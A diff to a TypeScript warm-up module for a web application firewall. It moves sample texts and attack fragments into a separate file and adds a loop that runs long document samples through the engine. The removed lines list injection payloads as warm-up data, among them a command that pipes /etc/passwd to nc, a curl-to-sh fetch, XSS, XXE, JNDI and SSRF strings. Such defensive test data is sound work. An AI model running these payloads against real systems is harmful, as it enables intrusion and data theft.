@@ -1,53 +1,16 @@
 // What runs for the first time is slow: its patterns are compiled, and its functions read and then compiled, when they
 // are needed. So an engine judges a few texts that nobody sent before it judges a client's, where the isolate starts:
-// values as clients send them, and pieces of every class of attack, so that a hostile first request finds compiled code,
-// too. Nothing is kept of what it finds, but that it was looked at (shared/waf/judge/warmth.ts).
+// values and documents as clients send them, and pieces of every class of attack, so that a hostile first request finds
+// compiled code, too. Nothing is kept of what it finds, but that it was looked at (shared/waf/judge/warmth.ts).
 
 import { bodyOf } from '../../exchange/body.ts'
 import { unitsOf } from '../../waf/work.ts'
 import type { Engine } from '../../waf/judge/engine.ts'
+import { DOCUMENTS, PIECES, TEXTS } from './samples.ts'
 
-/** Values as clients send them, and marks of each kind, so that every detector has something to look at. */
-const TEXTS: readonly string[] = [
-  'It\'s (a) [b] {c}; d: e, f. Say "g", or `h`? i * j = k # l @ m! <n> & o | p \\ q',
-  "a name's (x); $y",
-  'https://example.com/a/b.html?c=d&e=f#g',
-  '2026-01-31T12:00:00Z',
-  '<p class="a">text &amp; more</p>',
-  '../a/b',
-  'select a from b where c = 1',
-  'a@example.com',
-  '${a} {{b}}',
-  'a\nb: c\n',
-  'YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo=',
-  '%41%42',
-  '{"a":"b\'c"}',
-  'f(x, "y")',
-]
-
-/** Pieces of attacks; two of them together, again and again, are a text. */
-const PIECES: readonly string[] = [
-  "x' or '1'='1' -- ",
-  '1) union select a, b from c where (1=1',
-  "\"; drop table a; exec xp_b 'c' /* d */ ",
-  "1 and sleep(5) and case when 1=1 then a end || 'b' ",
-  '; cat /etc/passwd | nc 192.0.2.1 80 && id ',
-  '$(curl http://a.example/b|sh) `id` ${IFS} ',
-  '| powershell -enc QQBB & dir c:\\windows\\win.ini ',
-  '<script>alert(1)</script><img src=x onerror=b()> ',
-  '"><svg/onload=a`1` style="b:url(javascript:c)"> ',
-  '../../etc/shadow ..\\..\\boot.ini %2e%2e%2f ',
-  'http://169.254.169.254/latest/ gopher://[::1]:80/ ',
-  '{{7*7}} ${jndi:ldap://a/b} <%= a %> #{b} {% c %} ',
-  "__import__('os').system('id') eval($_GET[a]) ",
-  '*)(uid=*))(|(a=* " or count(//b)=1 or "a"="b ',
-  '{"$gt":""} \', $where: \'1==1 db.a.find() ',
-  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]>&b; ',
-  'a\r\nSet-Cookie: b=c\r\n\r\nGET /d HTTP/1.1 ',
-  'O:8:"stdClass":1:{s:1:"a";} !!python/object:b rO0AB ',
-  '\\u0027 \\x41 &#x3c;a&#62; %27%20or%201 \u2019 \uff1c ',
-  'constructor.prototype.a __proto__[b]=c class.module ',
-]
+/** How long a document is, and how often each of them comes. */
+const DOCUMENT_LENGTH = 2000
+const DOCUMENT_TIMES = 4
 
 /** How long the texts are that stand for many: loops are compiled when they have run for a while. */
 const LENGTH = 1000
@@ -67,6 +30,11 @@ export const rehearse = (engine: Engine): void => {
     body(engine, JSON_TYPE, JSON.stringify({ [piece]: [long, pair, { a: piece }] }))
     engine.text('form', 'value', 'body.a', pair.repeat(FORM_LENGTH / pair.length), unitsOf(BUDGET_MS))
   }
+  for (let time = 0; time < DOCUMENT_TIMES; time++)
+    for (const piece of DOCUMENTS) {
+      const text = piece.repeat(Math.ceil(DOCUMENT_LENGTH / piece.length))
+      body(engine, JSON_TYPE, JSON.stringify({ [`a${time}`]: `${text}${time}` }))
+    }
   const all = PIECES.join('')
   body(engine, 'application/x-www-form-urlencoded', PIECES.map((one) => `a=${percent(one)}`).join('&'))
   body(
